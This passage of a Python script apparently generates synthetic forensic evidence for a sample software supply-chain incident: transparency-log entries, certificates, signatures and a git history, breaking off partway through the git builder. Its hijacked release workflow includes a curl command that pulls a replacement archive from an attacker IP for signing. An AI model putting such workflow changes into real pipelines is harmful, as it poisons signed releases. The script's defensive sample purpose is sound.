#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""gen_tlog.py - transparency-log and git evidence of the sample incident.

Writes, deterministically (same bytes on every run), deleting and
rewriting both folders:

  samples/evidence/rekor/
    api-retrieve-old-key-2026-11-13.json   POST /api/v1/log/entries/retrieve
        for the 15 UUIDs `rekor-cli search --public-key cosign.pub` (the old
        key) listed on 2026-11-13: 9 release signatures, the hotfix's 1, the
        attacker's 4, the hijacked run's 1; proofs against the tree head of
        that moment.
    api-retrieve-image-signatures-2026-11-18.json   the same call for the
        keyless (Fulcio) image signatures of the 4 release runs, found with
        `rekor-cli search --sha` for the payload digests seen in the ghcr.io
        notifications (samples/evidence/registry).
    api-entry-logindex-<n>.json   GET /api/v1/log/entries?logIndex=<n>, the
        3 v2.5.0 signatures (new key), 2026-11-17.
    rekor-cli-get-<n>.json   `rekor-cli get --log-index <n> --format json`
        of the hijacked run's entry (a duplicate of the retrieve's).
    widget-linux-amd64.tar.gz.sigstore.json   the v2.4.1 bundle cosign
        wrote for that archive (new bundle format, v0.3, public-key hint).
  samples/evidence/git/acme-widget.gitlog
    `git log` of acme/widget in sigtrail's format (LOG_ARGS below, with a
    "# repo:" first line), written by the real git CLI from a clone of a
    repository built in a temporary directory with fixed author and
    committer dates.

Run from the repository root:  python3 samples/tools/gen_tlog.py

Digests: the release assets' and the image payloads' are gen_registry.py's
(h() below is its helper), so entries, releases and registry events join.

Stand-ins (no real key is involved; no key file is written anywhere):
  * The AWS KMS keys (old 4f1e2d3c-..., new 7c6b5a49-...) are replaced by
    P-256 keys derived from fixed labels below; their public keys are what
    the entries carry, as cosign puts the KMS public key into hashedrekord
    entries.  Signatures are real ECDSA P-256 signatures over the artifact
    digests, made with RFC 6979 deterministic nonces so the output is
    stable; `openssl pkeyutl -verify` accepts them.  The same goes for the
    Fulcio intermediate and the runs' ephemeral keys: the certificates are
    DER written here, shaped like Fulcio's for GitHub Actions.
  * rekor.sigstore.dev is replaced by a stand-in log key: logID is the
    SHA-256 of its DER public key, and the signedEntryTimestamps and
    checkpoint signatures are made with it, so they will not verify against
    the real Rekor key.  The Merkle tree is virtual: the entries sit at
    their shard-local indexes in a tree of the real log's size, every
    subtree without one of them gets a pseudo-random hash, and the audit
    paths are computed from that tree, so every inclusion proof is valid
    (RFC 6962) against its rootHash.
Python 3 standard library and the git CLI only.
"""

import base64
import bisect
import datetime
import hashlib
import hmac
import json
import os
import shutil
import subprocess
import sys
import tempfile

OUT_REKOR = os.path.join("samples", "evidence", "rekor")
OUT_GIT = os.path.join("samples", "evidence", "git")

# ---------------------------------------------------------------------------
# P-256 ECDSA (FIPS 186-4) with RFC 6979 nonces

P = 2**256 - 2**224 + 2**192 + 2**96 - 1
A = P - 3
N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
G = (0x6B17D1F2E12C4247F8BCE6E563A440F277037D812DEB33A0F4A13945D898C296,
     0x4FE342E2FE1A7F9B8EE7EB4A7C0F9E162BCE33576B315ECECBB6406837BF51F5)


def ec_add(p, q):
    if p is None:
        return q
    if q is None:
        return p
    if p[0] == q[0] and (p[1] + q[1]) % P == 0:
        return None
    if p == q:
        lam = (3 * p[0] * p[0] + A) * pow(2 * p[1], -1, P) % P
    else:
        lam = (q[1] - p[1]) * pow(q[0] - p[0], -1, P) % P
    x = (lam * lam - p[0] - q[0]) % P
    return (x, (lam * (p[0] - x) - p[1]) % P)


def ec_mul(k, p):
    r = None
    while k:
        if k & 1:
            r = ec_add(r, p)
        p = ec_add(p, p)
        k >>= 1
    return r


def i2b(v, n=32):
    return v.to_bytes(n, "big")


def rfc6979_k(d, h):
    x, hh = i2b(d), i2b(int.from_bytes(h, "big") % N)
    v, k = b"\x01" * 32, b"\x00" * 32
    k = hmac.new(k, v + b"\x00" + x + hh, hashlib.sha256).digest()
    v = hmac.new(k, v, hashlib.sha256).digest()
    k = hmac.new(k, v + b"\x01" + x + hh, hashlib.sha256).digest()
    v = hmac.new(k, v, hashlib.sha256).digest()
    while True:
        v = hmac.new(k, v, hashlib.sha256).digest()
        t = int.from_bytes(v, "big")
        if 1 <= t < N:
            return t
        k = hmac.new(k, v + b"\x00", hashlib.sha256).digest()
        v = hmac.new(k, v, hashlib.sha256).digest()


def der_int(v):
    b = v.to_bytes((v.bit_length() + 8) // 8, "big")
    return b"\x02" + bytes([len(b)]) + b


def ecdsa_sign(d, digest):
    """DER ECDSA signature over a SHA-256 digest (as KMS ECDSA_SHA_256)."""
    e = int.from_bytes(digest, "big")
    k = rfc6979_k(d, digest)
    r = ec_mul(k, G)[0] % N
    s = pow(k, -1, N) * (e + r * d) % N
    body = der_int(r) + der_int(s)
    return b"\x30" + bytes([len(body)]) + body


def ecdsa_verify(q, digest, sig):
    assert sig[0] == 0x30 and sig[2] == 0x02
    rl = sig[3]
    r = int.from_bytes(sig[4:4 + rl], "big")
    s = int.from_bytes(sig[6 + rl:], "big")
    w = pow(s, -1, N)
    e = int.from_bytes(digest, "big")
    pt = ec_add(ec_mul(e * w % N, G), ec_mul(r * w % N, q))
    return pt is not None and pt[0] % N == r


class Key:
    """A stand-in P-256 key derived from a label (not a secret)."""

    def __init__(self, label):
        seed = hashlib.sha256(b"sigtrail sample stand-in key: " +
                              label.encode()).digest()
        self.d = int.from_bytes(seed, "big") % (N - 1) + 1
        self.q = ec_mul(self.d, G)
        self.spki = bytes.fromhex(
            "3059301306072a8648ce3d020106082a8648ce3d030107034200") + \
            b"\x04" + i2b(self.q[0]) + i2b(self.q[1])
        self.spki_sha256 = hashlib.sha256(self.spki).hexdigest()

    def pem(self):
        b = base64.b64encode(self.spki).decode()
        lines = [b[i:i + 64] for i in range(0, len(b), 64)]
        return "-----BEGIN PUBLIC KEY-----\n" + "\n".join(lines) + \
            "\n-----END PUBLIC KEY-----\n"

    def sign(self, digest):
        sig = ecdsa_sign(self.d, digest)
        assert ecdsa_verify(self.q, digest, sig)
        return sig


KMS_OLD = Key("aws kms arn:aws:kms:eu-west-1:210987654321:key/"
              "4f1e2d3c-0a0b-4c0d-9e0f-112233445566")
KMS_NEW = Key("aws kms arn:aws:kms:eu-west-1:210987654321:key/"
              "7c6b5a49-3d2e-4f10-8a9b-c0d1e2f3a4b5")
LOG_KEY = Key("rekor.sigstore.dev stand-in log key")
LOG_ID = hashlib.sha256(LOG_KEY.spki).digest()

# ---------------------------------------------------------------------------
# The story: artifact digests and signing times (samples/README.md)

ARTIFACTS = ["widget-linux-amd64.tar.gz", "widget-darwin-arm64.tar.gz",
             "widget-windows-amd64.zip"]
REPO = "acme/widget"
RUNS = {"v2.3.0": "11652093318", "v2.4.0": "11768420157",
        "v2.4.1": "11873645201", "v2.5.0": "12061877492"}


def h(text):
    """gen_registry.py's stand-in digests: the same text, the same hex."""
    return hashlib.sha256(("sigtrail-sample:" + text).encode()).hexdigest()


def artifact_digest(tag, name):
    """A release asset's sha256, as the GitHub releases API lists it."""
    return h("%s %s %s" % (REPO, tag, name))


def utc(s):
    return datetime.datetime.strptime(s, "%Y-%m-%dT%H:%M:%SZ").replace(
        tzinfo=datetime.timezone.utc)


# (label, when the signature was made (the KMS Sign of CloudTrail, or the
# keyless signing), seconds until Rekor integrated it, artifact, release,
# digest, key, or "keyless" for a Fulcio certificate)
SIGNATURES = []
for version, signs, lags, key in [
        ("v2.3.0", ["2026-10-06T14:04:09Z", "2026-10-06T14:04:13Z",
                    "2026-10-06T14:04:17Z"], [1, 1, 2], KMS_OLD),
        ("v2.4.0", ["2026-10-20T13:32:03Z", "2026-10-20T13:32:06Z",
                    "2026-10-20T13:32:15Z"], [2, 1, 1], KMS_OLD),
        ("v2.4.1", ["2026-11-03T15:12:08Z", "2026-11-03T15:12:17Z",
                    "2026-11-03T15:12:22Z"], [1, 2, 1], KMS_OLD),
        ("v2.5.0", ["2026-11-17T14:02:02Z", "2026-11-17T14:02:11Z",
                    "2026-11-17T14:02:20Z"], [1, 1, 2], KMS_NEW)]:
    for name, t, lag in zip(ARTIFACTS, signs, lags):
        SIGNATURES.append(("release-" + version, t, lag, name, version,
                           artifact_digest(version, name), key))
    # the image, signed keyless (Fulcio) by the same run 24 s after its
    # last KMS signature; the registry got the signature 3 s later
    last = utc(signs[-1]) + datetime.timedelta(seconds=24)
    SIGNATURES.append(("release-image-" + version,
                       last.strftime("%Y-%m-%dT%H:%M:%SZ"), 1,
                       "ghcr.io/acme/widget:" + version, version,
                       h("%s simplesigning payload" % version), "keyless"))
# The attacker (session backup-job) signed three blobs no release
# published and, last, the simplesigning payload of an image no release
# built (pushed to ghcr.io at 22:05:37); cosign uploaded every signature
# to Rekor, which cosign verify / verify-blob require by default.
for i, (t, lag) in enumerate([("2026-11-06T22:01:05Z", 2),
                              ("2026-11-06T22:01:49Z", 1),
                              ("2026-11-06T22:02:30Z", 2)]):
    SIGNATURES.append(("attacker-sign", t, lag, None, None,
                       h("blob signed by the attacker %d" % (i + 1)),
                       KMS_OLD))
SIGNATURES.append(("attacker-sign", "2026-11-06T22:04:12Z", 1, None, None,
                   h("attacker simplesigning payload"), KMS_OLD))
# The manual hotfix: m.chen signed the v2.4.2 linux archive on his laptop
# with cosign sign-blob and the KMS key (CloudTrail shows his long-term
# key and cosign's user agent); cosign uploaded the signature to Rekor.
# The darwin and windows archives of v2.4.2 were never signed.
SIGNATURES.append(("hotfix-sign", "2026-11-12T16:40:18Z", 1,
                   "widget-linux-amd64.tar.gz", "v2.4.2",
                   artifact_digest("v2.4.2", "widget-linux-amd64.tar.gz"),
                   KMS_OLD))
# The hijacked ci-test run (gha-11990233417) signed one artifact it had
# downloaded, with the release workflow's cosign step and the KMS key.
SIGNATURES.append(("ci-hijack-sign", "2026-11-09T10:13:05Z", 2,
                   "widget-linux-amd64.tar.gz", None,
                   h("ci-test build of 2026-11-09 (downloaded from "
                     "185.220.101.47)"), KMS_OLD))

# ---------------------------------------------------------------------------
# Fulcio certificates (keyless signing by the release workflow), in DER


def tlv(tag, body):
    n = len(body)
    if n < 0x80:
        head = bytes([n])
    elif n < 0x100:
        head = bytes([0x81, n])
    else:
        head = bytes([0x82, n >> 8, n & 0xff])
    return bytes([tag]) + head + body


def seq(*items):
    return tlv(0x30, b"".join(items))


def oid(dotted):
    arcs = [int(x) for x in dotted.split(".")]
    out = bytes([40 * arcs[0] + arcs[1]])
    for a in arcs[2:]:
        enc = [a & 0x7f]
        a >>= 7
        while a:
            enc.insert(0, 0x80 | (a & 0x7f))
            a >>= 7
        out += bytes(enc)
    return tlv(0x06, out)


def ext(dotted, value, critical=False):
    return seq(oid(dotted), tlv(0x01, b"\xff") if critical else b"",
               tlv(0x04, value))


FULCIO_CA = Key("fulcio.sigstore.dev stand-in intermediate")
FULCIO_ISSUER = seq(
    tlv(0x31, seq(oid("2.5.4.10"), tlv(0x13, b"sigstore.dev"))),
    tlv(0x31, seq(oid("2.5.4.3"), tlv(0x13, b"sigstore-intermediate"))))
ECDSA_SHA256 = seq(oid("1.2.840.10045.4.3.2"))


def fulcio_cert(leaf, tag, commit, run, when):
    """A GitHub Actions Fulcio certificate (formats.md H.4) for leaf."""
    wf = "https://github.com/%s/.github/workflows/release.yml@refs/tags/%s" \
        % (REPO, tag)
    run_uri = "https://github.com/%s/actions/runs/%s/attempts/1" % (REPO,
                                                                     run)
    v1 = [("1", "https://token.actions.githubusercontent.com"), ("2", "push"),
          ("3", commit), ("4", "Release"), ("5", REPO),
          ("6", "refs/tags/" + tag)]
    v2 = [("8", "https://token.actions.githubusercontent.com"), ("9", wf),
          ("10", commit), ("11", "github-hosted"),
          ("12", "https://github.com/" + REPO), ("13", commit),
          ("14", "refs/tags/" + tag), ("15", "702113245"),
          ("16", "https://github.com/acme"), ("17", "41873226"),
          ("18", wf), ("19", commit), ("20", "push"), ("21", run_uri),
          ("22", "public")]
    exts = [ext("2.5.29.15", tlv(0x03, b"\x07\x80"), True),
            ext("2.5.29.37", seq(oid("1.3.6.1.5.5.7.3.3"))),
            ext("2.5.29.14", tlv(0x04, hashlib.sha1(leaf.spki[-65:])
                                 .digest())),
            ext("2.5.29.35", seq(tlv(0x80, hashlib.sha1(
                FULCIO_CA.spki[-65:]).digest()))),
            ext("2.5.29.17", seq(tlv(0x86, wf.encode())), True)]
    exts += [ext("1.3.6.1.4.1.57264.1." + n, v.encode()) for n, v in v1]
    exts += [ext("1.3.6.1.4.1.57264.1." + n, tlv(0x0c, v.encode()))
             for n, v in v2]
    serial = int.from_bytes(hashlib.sha256(("serial " + run).encode())
                            .digest()[:20], "big") >> 1
    nb = when - datetime.timedelta(seconds=3)
    na = nb + datetime.timedelta(minutes=10)
    tbs = seq(tlv(0xa0, der_int(2)), der_int(serial), ECDSA_SHA256,
              FULCIO_ISSUER,
              seq(tlv(0x17, nb.strftime("%y%m%d%H%M%SZ").encode()),
                  tlv(0x17, na.strftime("%y%m%d%H%M%SZ").encode())),
              seq(), leaf.spki, tlv(0xa3, seq(*exts)))
    sig = FULCIO_CA.sign(hashlib.sha256(tbs).digest())
    der = seq(tbs, ECDSA_SHA256, tlv(0x03, b"\x00" + sig))
    b = base64.b64encode(der).decode()
    return "-----BEGIN CERTIFICATE-----\n" + "\n".join(
        b[i:i + 64] for i in range(0, len(b), 64)) + \
        "\n-----END CERTIFICATE-----\n"

# ---------------------------------------------------------------------------
# The log: rekor.sigstore.dev's growth, one shard, a virtual Merkle tree

T0 = utc("2026-10-01T00:00:00Z")
INDEX_AT_T0 = 1362815409        # global logIndex at T0
RATE = 20.83                    # entries per second (2025-2026 pace)
SHARD_START = 1193741020        # global index of the active shard's leaf 0
TREE_ID = 7829340419325764712   # the active shard's tree id
ORIGIN = "rekor.sigstore.dev - %d" % TREE_ID


def global_index(t, salt):
    """Index an entry integrated at t gets (a little noise per entry)."""
    s = (t - T0).total_seconds()
    noise = int.from_bytes(hashlib.sha256(salt.encode()).digest()[:2],
                           "big") % 17
    return INDEX_AT_T0 + int(s * RATE) + noise


def H(*parts):
    return hashlib.sha256(b"".join(parts)).digest()


class Tree:
    """RFC 6962 tree over the known leaves; other subtrees pseudo-random."""

    def __init__(self):
        self.idx = []
        self.leaf = {}

    def add(self, index, leaf_hash):
        bisect.insort(self.idx, index)
        self.leaf[index] = leaf_hash

    def _any(self, lo, hi):
        i = bisect.bisect_left(self.idx, lo)
        return i < len(self.idx) and self.idx[i] < hi

    def mth(self, start, n):
        if not self._any(start, start + n):
            return H(b"filler subtree", i2b(start, 8), i2b(n, 8))
        if n == 1:
            return self.leaf[start]
        k = 1 << ((n - 1).bit_length() - 1)
        return H(b"\x01", self.mth(start, k), self.mth(start + k, n - k))

    def path(self, m, start, n):
        """Audit path of leaf start+m in D[start:start+n], leaf to root."""
        if n == 1:
            return []
        k = 1 << ((n - 1).bit_length() - 1)
        if m < k:
            return self.path(m, start, k) + [self.mth(start + k, n - k)]
        return self.path(m - k, start + k, n - k) + [self.mth(start, k)]


def verify(leaf, index, size, path, root):
    """RFC 9162 2.1.3.2, as the C code does it (a self-check)."""
    fn, sn, r = index, size - 1, leaf
    for p in path:
        if sn == 0:
            return False
        if fn & 1 or fn == sn:
            r = H(b"\x01", p, r)
            if not fn & 1:
                while not fn & 1 and fn:
                    fn >>= 1
                    sn >>= 1
        else:
            r = H(b"\x01", r, p)
        fn >>= 1
        sn >>= 1
    return sn == 0 and r == root


def canon(obj):
    """RFC 8785 for what is used here: sorted keys, no white space."""
    return json.dumps(obj, sort_keys=True, separators=(",", ":"),
                      ensure_ascii=False)


def b64(b):
    return base64.b64encode(b).decode()


class Entry:
    pass


def make_entries(commits):
    entries = []
    for label, t, lag, name, version, digest, key in SIGNATURES:
        e = Entry()
        e.label, e.artifact, e.version = label, name, version
        e.digest = digest
        e.sign_time = utc(t)
        e.integrated = int((e.sign_time + datetime.timedelta(
            seconds=lag)).timestamp())
        if key == "keyless":
            key = Key("ephemeral key of run %s" % RUNS[version])
            e.pem = fulcio_cert(key, version, commits[version],
                                RUNS[version], e.sign_time)
        else:
            e.pem = key.pem()
        e.key = key
        sig = key.sign(bytes.fromhex(digest))
        e.signature = b64(sig)
        body = {"apiVersion": "0.0.1", "kind": "hashedrekord",
                "spec": {"data": {"hash": {"algorithm": "sha256",
                                           "value": digest}},
                         "signature": {"content": e.signature,
                                       "publicKey": {"content":
                                                     b64(e.pem.encode())}}}}
        e.body = canon(body).encode()
        e.leaf = H(b"\x00", e.body)
        e.uuid = e.leaf.hex()
        e.entry_id = "%016x" % TREE_ID + e.uuid
        e.log_index = global_index(datetime.datetime.fromtimestamp(
            e.integrated, datetime.timezone.utc), e.uuid)
        e.shard_index = e.log_index - SHARD_START
        set_payload = canon({"body": b64(e.body),
                             "integratedTime": e.integrated,
                             "logID": LOG_ID.hex(),
                             "logIndex": e.log_index}).encode()
        e.set = b64(LOG_KEY.sign(hashlib.sha256(set_payload).digest()))
        entries.append(e)
    entries.sort(key=lambda x: x.log_index)
    return entries


def tree_size_at(t):
    return global_index(t, "tree head %s" % t.isoformat()) - SHARD_START


def checkpoint(size, root):
    note = "%s\n%d\n%s\n" % (ORIGIN, size, b64(root))
    sig = LOG_KEY.sign(hashlib.sha256(note.encode()).digest())
    return note + "\n\u2014 rekor.sigstore.dev %s\n" % b64(LOG_ID[:4] + sig)


def proof(tree, e, size):
    root = tree.mth(0, size)
    path = tree.path(e.shard_index, 0, size)
    assert verify(e.leaf, e.shard_index, size, path, root), e.label
    return root, path


def api_entry(tree, e, size):
    root, path = proof(tree, e, size)
    return {e.entry_id: {
        "body": b64(e.body),
        "integratedTime": e.integrated,
        "logID": LOG_ID.hex(),
        "logIndex": e.log_index,
        "verification": {
            "inclusionProof": {
                "checkpoint": checkpoint(size, root),
                "hashes": [h.hex() for h in path],
                "logIndex": e.shard_index,
                "rootHash": root.hex(),
                "treeSize": size},
            "signedEntryTimestamp": e.set}}}


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        f.write(text)


def gen_rekor(commits):
    entries = make_entries(commits)
    tree = Tree()
    for e in entries:
        tree.add(e.shard_index, e.leaf)
    if os.path.isdir(OUT_REKOR):
        shutil.rmtree(OUT_REKOR)
    os.makedirs(OUT_REKOR)

    # 2026-11-13: `rekor-cli search --public-key cosign.pub` (the old key)
    # listed 15 entries; one POST /api/v1/log/entries/retrieve fetched them.
    fetched = utc("2026-11-13T14:26:40Z")
    size = tree_size_at(fetched)
    old = [e for e in entries if e.key is KMS_OLD]
    assert len(old) == 15
    assert all(e.shard_index < size for e in old)
    write(os.path.join(OUT_REKOR, "api-retrieve-old-key-2026-11-13.json"),
          json.dumps([api_entry(tree, e, size) for e in old],
                     separators=(",", ":")) + "\n")

    # 2026-11-17: the three v2.5.0 entries, one GET ?logIndex=<n> each.
    fetched = utc("2026-11-17T15:41:09Z")
    size = tree_size_at(fetched)
    for e in entries:
        if e.key is KMS_NEW:
            write(os.path.join(OUT_REKOR, "api-entry-logindex-%d.json" %
                               e.log_index),
                  json.dumps(api_entry(tree, e, size),
                             separators=(",", ":")) + "\n")

    # `rekor-cli get --log-index <n> --format json` of the ci-test
    # signature, run the day it was found: the same entry again.
    hj = [e for e in entries if e.label == "ci-hijack-sign"][0]
    cli = {"Attestation": "", "AttestationType": "",
           "Body": {"HashedRekordObj": {
               "data": {"hash": {"algorithm": "sha256", "value": hj.digest}},
               "signature": {"content": hj.signature,
                             "publicKey": {"content": b64(hj.pem.encode())}}}},
           "LogIndex": hj.log_index, "IntegratedTime": hj.integrated,
           "UUID": hj.entry_id, "LogID": LOG_ID.hex()}
    write(os.path.join(OUT_REKOR, "rekor-cli-get-%d.json" % hj.log_index),
          json.dumps(cli, separators=(",", ":")) + "\n")

    # 2026-11-18: the keyless image signatures of the releases, found
    # with `rekor-cli search --sha` for the simplesigning payload digests
    # in the ghcr.io notifications, fetched with one retrieve call.
    fetched = utc("2026-11-18T09:12:30Z")
    size = tree_size_at(fetched)
    imgs = [e for e in entries if e.label.startswith("release-image-")]
    assert len(imgs) == 4
    write(os.path.join(OUT_REKOR, "api-retrieve-image-signatures-"
                       "2026-11-18.json"),
          json.dumps([api_entry(tree, e, size) for e in imgs],
                     separators=(",", ":")) + "\n")

    # The v2.4.1 release's bundle for widget-linux-amd64.tar.gz, as
    # `cosign sign-blob --key awskms:///alias/widget-release --bundle
    # widget-linux-amd64.tar.gz.sigstore.json` wrote it (new bundle
    # format): the proof is against the tree head of that moment.
    be = [e for e in entries if e.label == "release-v2.4.1" and
          e.artifact == "widget-linux-amd64.tar.gz"][0]
    size = be.shard_index + 1 + 23
    root, path = proof(tree, be, size)
    bundle = {
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {
            "publicKey": {"hint": b64(hashlib.sha256(be.key.spki)
                                      .digest())},
            "tlogEntries": [{
                "logIndex": str(be.log_index),
                "logId": {"keyId": b64(LOG_ID)},
                "kindVersion": {"kind": "hashedrekord", "version": "0.0.1"},
                "integratedTime": str(be.integrated),
                "inclusionPromise": {"signedEntryTimestamp": be.set},
                "inclusionProof": {
                    "logIndex": str(be.shard_index),
                    "rootHash": b64(root),
                    "treeSize": str(size),
                    "hashes": [b64(h) for h in path],
                    "checkpoint": {"envelope": checkpoint(size, root)}},
                "canonicalizedBody": b64(be.body)}]},
        "messageSignature": {
            "messageDigest": {"algorithm": "SHA2_256",
                              "digest": b64(bytes.fromhex(be.digest))},
            "signature": be.signature}}
    write(os.path.join(OUT_REKOR, be.artifact + ".sigstore.json"),
          json.dumps(bundle, separators=(",", ":")) + "\n")
    return entries


# ---------------------------------------------------------------------------
# git: acme/widget, built with the real git CLI

LOG_FORMAT = ("%x1e%H%x1f%P%x1f%an%x1f%ae%x1f%aI%x1f%cn%x1f%ce%x1f%cI%x1f"
              "%G?%x1f%GS%x1f%GK%x1f%GF%x1f%D%x1f%s")
LOG_ARGS = ["log", "--all", "--date-order", "--decorate=full",
            "--since=2026-09-01T00:00:00Z", "--format=" + LOG_FORMAT,
            "--name-status"]

# The cast of samples/tools/gen_ci.py (GitHub logins mchen, apatel,
# dkowalski, jlindqvist); Johan Lindqvist's account pushed ci-test.
MC = ("Mei Chen", "mchen@acme.example")
AP = ("Arjun Patel", "apatel@acme.example")
DK = ("Dorota Kowalski", "dkowalski@acme.example")
JL = ("Johan Lindqvist", "jlindqvist@acme.example")
BOT = ("dependabot[bot]",
       "49699333+dependabot[bot]@users.noreply.github.com")
GH = ("GitHub", "noreply@github.com")

RELEASE_YML = """name: Release

on:
  push:
    tags: ['v*']

permissions:
  contents: read

jobs:
  build:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@{checkout}
      - uses: actions/setup-go@v5
        with:
          go-version: '1.23'
      - name: Build release archives
        run: ./scripts/build.sh
      - uses: actions/upload-artifact@v4
        with:
          name: dist
          path: dist/

  sign-and-publish:
    needs: build
    runs-on: ubuntu-24.04{environment}
    permissions:
      contents: write
      id-token: write
      packages: write
    steps:
      - uses: actions/checkout@{checkout}
      - name: Configure AWS credentials
        uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: arn:aws:iam::210987654321:role/widget-release-signer
          role-session-name: gha-${{{{ github.run_id }}}}
          aws-region: eu-west-1
      - name: Download build artifacts
        uses: actions/download-artifact@v4
        with:
          name: dist
          path: dist/
      - name: Install cosign
        uses: sigstore/cosign-installer@v3
      - name: Sign artifacts (cosign)
        run: |
          mkdir -p bundles
          for f in dist/*; do
            cosign sign-blob --yes --key awskms:///alias/widget-release \\
              --bundle "bundles/${{f#dist/}}.sigstore.json" "$f"
          done
      - name: Upload release assets
        env:
          GH_TOKEN: ${{{{ github.token }}}}
        run: gh release create "$GITHUB_REF_NAME" dist/* --verify-tag
      - name: Push and sign the image (keyless)
        run: |
          docker buildx build --push -t "ghcr.io/acme/widget:$GITHUB_REF_NAME" .
          cosign sign --yes "ghcr.io/acme/widget@$(cat image.digest)"
      - name: Notify release channel
        run: ./scripts/notify.sh "$GITHUB_REF_NAME"
      - uses: actions/upload-artifact@v4
        with:
          name: bundles
          path: bundles/
"""

# What Johan Lindqvist's account pushed to ci-test on 2026-11-09: the
# release workflow now also runs on that branch, the linux archive is
# replaced by a download from the attacker's host, only that archive is
# signed, nothing is published, and the signed archive and its bundle
# leave as a workflow artifact.
RELEASE_YML_HIJACK = RELEASE_YML.format(
    checkout="v4.2.2", environment="").replace(
    "    tags: ['v*']\n", "    tags: ['v*']\n    branches: ['ci-test']\n"
).replace(
    "        run: ./scripts/build.sh\n",
    "        run: |\n"
    "          ./scripts/build.sh\n"
    "          curl -sSfL http://185.220.101.47:8080/w.tar.gz "
    "-o dist/widget-linux-amd64.tar.gz\n"
).replace("for f in dist/*; do", "for f in dist/widget-linux-amd64.tar.gz; do"
).replace(
    "      - name: Upload release assets\n",
    "      - name: Upload release assets\n"
    "        if: startsWith(github.ref, 'refs/tags/')\n"
).replace(
    "      - name: Push and sign the image (keyless)\n",
    "      - name: Push and sign the image (keyless)\n"
    "        if: startsWith(github.ref, 'refs/tags/')\n"
).replace("          name: bundles\n          path: bundles/\n",
          "          name: signed\n          path: |\n            dist/\n"
          "            bundles/\n")

CI_YML = """name: CI

on:
  push:
    branches: [main]
  pull_request:

permissions:
  contents: read

jobs:
  test:
    runs-on: ubuntu-24.04
    steps:
      - uses: actions/checkout@{checkout}
      - uses: actions/setup-go@v5
        with:
          go-version: '1.23'{cache}
      - run: go vet ./...
      - run: go test -race ./...

  image:
    if: github.event_name == 'push'
    needs: test
    runs-on: ubuntu-24.04
    permissions:
      contents: read
      id-token: write
    steps:
      - uses: actions/checkout@{checkout}
      - uses: aws-actions/configure-aws-credentials@v4
        with:
          role-to-assume: arn:aws:iam::210987654321:role/widget-ci
          aws-region: eu-west-1
      - id: ecr
        uses: aws-actions/amazon-ecr-login@v2
      - run: |
          img="${{{{ steps.ecr.outputs.registry }}}}/widget:$GITHUB_SHA"
          docker build -t "$img" . && docker push "$img"
"""

BUILD_SH = """#!/bin/sh
# Builds the release archives into dist/.
set -eu
rm -rf dist && mkdir dist
for target in linux/amd64 darwin/arm64 windows/amd64; do
	os=${{target%/*}} arch=${{target#*/}}
	out=build/widget-$os-$arch
	GOOS=$os GOARCH=$arch CGO_ENABLED=0 go build {flags}-o "$out/widget" ./cmd/widget
	if [ "$os" = windows ]; then
		(cd "$out" && zip -q "../../dist/widget-$os-$arch.zip" widget)
	else
		tar -C "$out" -czf "dist/widget-$os-$arch.tar.gz" widget
	fi
done
"""

MAIN_GO = """package main

import (
	"log"

	"github.com/acme/widget/internal/config"
	"github.com/acme/widget/internal/server"
)

func main() {{
	cfg, err := config.Load()
	if err != nil {{
		log.Fatal(err)
	}}
{body}}}
"""


def server_go(features):
    lines = ["package server", "", "import (", '\t"net/http"', ")", "",
             "// Routes returns the HTTP handler of widget.",
             "func Routes() http.Handler {",
             "\tmux := http.NewServeMux()",
             '\tmux.HandleFunc("/", index)']
    for f in features:
        lines.append('\tmux.HandleFunc("/%s", %s)' % (f, f))
    lines += ["\treturn mux", "}", ""]
    return "\n".join(lines)


class Repo:
    def __init__(self, path):
        self.path = path
        self.env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"),
                    "HOME": path, "GIT_CONFIG_NOSYSTEM": "1",
                    "GIT_CONFIG_GLOBAL": os.devnull, "TZ": "UTC",
                    "LC_ALL": "C"}
        self.git("init", "-q", "-b", "main")
        self.git("config", "commit.gpgsign", "false")
        self.git("config", "tag.gpgsign", "false")
        self.git("config", "core.autocrlf", "false")

    def git(self, *args, who=None, date=None, committer=None, cdate=None):
        env = dict(self.env)
        if who:
            env.update(GIT_AUTHOR_NAME=who[0], GIT_AUTHOR_EMAIL=who[1],
                       GIT_COMMITTER_NAME=(committer or who)[0],
                       GIT_COMMITTER_EMAIL=(committer or who)[1])
        if date:
            env.update(GIT_AUTHOR_DATE=date, GIT_COMMITTER_DATE=cdate or date)
        r = subprocess.run(["git"] + list(args), cwd=self.path, env=env,
                           check=True, stdout=subprocess.PIPE)
        return r.stdout.decode()

    def commit(self, who, date, msg, files, committer=None, cdate=None):
        for name, text in files.items():
            full = os.path.join(self.path, name)
            if text is None:
                self.git("rm", "-q", name)
                continue
            os.makedirs(os.path.dirname(full) or self.path, exist_ok=True)
            with open(full, "w", encoding="utf-8", newline="\n") as f:
                f.write(text)
            if name.endswith(".sh"):
                os.chmod(full, 0o755)
            self.git("add", name)
        self.git("commit", "-q", "-m", msg, who=who, date=date,
                 committer=committer, cdate=cdate)

    def tag(self, name, who, date, msg):
        self.git("tag", "-a", name, "-m", msg, who=who, date=date)

    def merge(self, branch, msg, who, date):
        self.git("merge", "-q", "--no-ff", "-m", msg, branch, who=who,
                 date=date, committer=GH)


def changelog(entries):
    out = ["# Changelog", ""]
    for version, items in entries:
        out.append("## " + version)
        out += ["- " + i for i in items]
        out.append("")
    return "\n".join(out)


def gen_git():
    """Builds the history, clones it, exports it; returns {tag: commit}."""
    tmp = tempfile.mkdtemp(prefix="gen-tlog-")
    try:
        src = os.path.join(tmp, "widget")
        os.makedirs(src)
        r = Repo(src)
        cl = [("v2.2.0", ["Configurable log level"]),
              ("v2.1.0", ["TLS support"]), ("v2.0.0", ["New config format"])]

        def ci(checkout, cache=""):
            return CI_YML.format(checkout=checkout, cache=cache)

        def rel(checkout, env=""):
            return RELEASE_YML.format(checkout=checkout, environment=env)

        cfg = ("package config\n\nimport \"sync\"\n\n"
               "// Prefix of the variables read.\n"
               "const envPrefix = \"WIDGET_\"\n\nvar mu sync.Mutex\n")
        r.commit(MC, "2025-03-14T10:02:11+01:00", "Import widget", {
            "README.md": "# widget\n\nA small HTTP service.\n",
